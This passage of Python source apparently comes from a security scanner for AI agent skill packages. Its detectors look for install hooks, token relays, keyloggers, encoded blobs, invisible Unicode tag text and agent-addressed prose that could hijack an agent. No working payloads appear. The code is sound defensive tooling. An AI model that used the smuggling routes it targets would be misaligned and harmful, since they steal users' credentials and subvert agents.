        findings += secret_encoding_findings(source.path, source.text, source.kind)
        findings += collector_requests(source.path, source.text)
        findings += token_relay_findings(source.path, source.text)
    if source.kind == TEXT:
        embedded = (
            [
                (line, "npm lifecycle script", command)
                for line, command in lifecycle_commands(source.path, source.text)
            ]
            + [
                (line, "Composer install hook", command)
                for line, command in composer_hooks(source.path, source.text)
            ]
            + [
                (line, f"agent hook ({event})", command)
                for line, event, command in agent_hook_commands(source.path, source.text)
            ]
            + tool_run_commands(source.path, source.text)
            + container_commands(source.path, source.text)
            + pipeline_commands(source.path, source.text)
            + service_commands(source.path, source.text)
            + build_tool_commands(source.path, source.text)
            + sql_commands(source.path, source.text)
        )
        if embedded:
            inner, caps = _embedded_commands(source.path, source.text, embedded)
            findings += inner
            capabilities += caps
        findings += _documented_hooks(source.path, source.text, in_skill_md)
        hook = hook_text(source.path, source.text)
        if hook is not None:
            inner, caps, _ = analyse_code(source.path, hook, "shell")
            findings += [
                reworded(f, f"install hook: {f.description}", placement="run-hook") for f in inner
            ]
            capabilities += caps
        findings += build_backend(source.path, source.text)
        if source.path.lower().endswith(SCRIPTED_DOCUMENTS):
            for code, _ in script_elements(source.text):
                inner, caps, _ = analyse_code(source.path, code, JAVASCRIPT)
                findings += inner + keylogger_findings(source.path, code)
                capabilities += caps
        if source.path.lower().endswith(".ipynb"):
            last_line = source.text.count("\n") + 1
            for code, language in notebook_code(source.text):
                inner, caps, _ = analyse_code(source.path, code, language)
                findings += [replace(f, line=min(f.line, last_line)) for f in inner]
                capabilities += caps
        text = source.text
        if not text.isascii() and _TAG_RANGE.search(text):
            text = tag_text(text)  # read the invisible text as the agent would
        text = without_zero_width(text)  # zero-width characters split words apart
        if source.path.lower().endswith((".csv", ".tsv")):
            text = _CSV_CELL_QUOTES.sub("", text)  # a cell's text is read as it is written
        findings += _prose_and_docs(source.path, text, in_skill_md, declares_config)
    else:
        language = source.kind if source.kind in (PYTHON, JAVASCRIPT) else "shell"
        if source.path.lower().endswith(POWERSHELL_SUFFIXES):
            language = POWERSHELL
        inner, caps, inner_notes = analyse_code(
            source.path,
            source.text,
            language,
            python_report=python_report,
        )
        findings += inner
        capabilities += caps
        notes += inner_notes
        findings += _agent_facing_findings(source.path, source.text, source.kind)
    started = [
        (line, "process started by the code", command)
        for line, command in runner_commands(source.path, source.text)
    ]
    if started:
        inner, caps = _embedded_commands(source.path, source.text, started)
        already = {(f.rule_id, f.line) for f in findings}
        findings += [f for f in inner if (f.rule_id, f.line) not in already]
        capabilities += caps
    for blob_finding, decoded in find_encoded_blobs(source.path, source.text):
        findings.append(blob_finding)
        for hidden in scan_prose(
            source.path,
            decoded,
            in_skill_md=in_skill_md,
            teaching_context=False,
        ):
            findings.append(
                ThreatFinding(
                    hidden.aitech,
                    "high",
                    source.path,
                    blob_finding.line,
                    blob_finding.evidence,
                    INSIDE_ENCODED_BLOB + hidden.description,
                    hidden.rule_id,
                    placement="encoded-blob",
                )
            )
    return tuple(findings), tuple(capabilities), tuple(notes)


def _agent_facing_findings(path: str, text: str, kind: str) -> list[ThreatFinding]:
    """Prose findings in the tool descriptions and agent-addressed comments of a code
    file, read as a reference file's prose (a catalogue of attacks stays an example)."""
    prose = agent_facing_text(path, text, kind)
    if prose is None:
        return []
    prose = without_zero_width(prose)
    found = scan_prose(path, prose, in_skill_md=False, teaching_context=False)
    found += credential_order(path, prose)
    return [
        as_example(f) if catalogued_line(prose, f.line, in_reference=True) else f for f in found
    ]


def _cached_file_findings(
    source: SourceFile,
    in_skill_md: bool,
    declares_config: bool,
    python_report: PythonReport | None,
) -> _FileResult:
    """:func:`_file_findings`, computed once per file text and context. A Python file's
    result is reused only with the very report it was computed with (the report of the
    file alone is itself reused, see :func:`_first_pass`)."""
    _, result = _FILE_RESULTS.get_or_compute(
        (source.path, source.kind, in_skill_md, declares_config),
        source.text,
        lambda: (
            python_report,
            _file_findings(source, in_skill_md, declares_config, python_report),
        ),
        valid=lambda stored: stored[0] is python_report,
    )
    return result


def analyse_threats(view: SkillView) -> ThreatReport:
    """Run all detectors over every file of the package."""
    findings: list[ThreatFinding] = []
    capabilities: list[Capability] = []
    notes: list[str] = []
    python_reports = _package_reports(
        [(s.path, s.text) for s in view.sources if s.kind == PYTHON], settings_values(view.files)
    )
    declares_config = bool(_DECLARES_CONFIG.search(view.description))
    for source in view.sources:
        in_skill_md = source.path == view.skill_md_path
        report = python_reports.get(source.path)
        found, caps, inner_notes = _cached_file_findings(
            source, in_skill_md, declares_config, report
        )
        findings += found
        capabilities += caps
        notes += inner_notes
    findings += package_family_findings(view)
    findings += js_package_findings(view.files)
    findings += second_credential_host_findings(
        {path: report.signed_sends for path, report in python_reports.items()},
        [view.description, *prose_texts(view.files)],
    )
    findings += _allowed_tools_findings(view, capabilities)
    findings = _option_entries(view, findings)
    findings = _declared_purposes(view, findings)
    findings = list(own_integrations_lowered(findings, view.files, view.stated_name))
    findings = list(sandboxed_agents_lowered(findings, view.files))
    resolved = {
        (path, send.line): send.destination
        for path, report in python_reports.items()
        for send in report.signed_sends
    }
    findings = declared_destinations(view, findings, resolved)
    code_paths = {s.path for s in view.sources if s.kind != TEXT}
    findings = corroborated(findings, view.files, code_paths)
    return ThreatReport(dedupe(findings)[:MAX_FINDINGS], sorted(set(capabilities)), notes)
